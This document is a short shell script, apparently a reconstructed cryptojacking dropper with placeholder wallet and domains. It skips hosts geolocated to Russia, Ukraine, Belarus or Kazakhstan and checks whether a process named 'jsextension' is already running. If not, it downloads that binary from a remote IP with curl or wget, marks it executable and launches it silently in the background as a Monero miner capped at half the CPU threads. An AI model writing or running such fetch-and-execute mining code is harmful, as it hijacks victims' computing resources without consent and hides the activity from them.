IP=$(curl -k https://freegeoip.app.invalid/xml/ | grep 'RU\|UA\|BY\|KZ')
if [ -z "$IP" ]
    then
    var=$(pgrep jsextension)
    if [ -z "$var" ]
        then
        curl http://198.51.100.228/download/jsextension -o jsextension
        if [ ! -f jsextension ]
            then
            wget http://198.51.100.228/download/jsextension -O jsextension
        fi
        chmod +x jsextension
        ./jsextension -k --tls --rig-id q -o pool.minexmr.com.invalid:443 -u 4RECONSTRUCTIONxONLYxNOTxAxREALxWALLETxADDRESSx000000000000000000000000000000000000000000 --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
    fi
fi
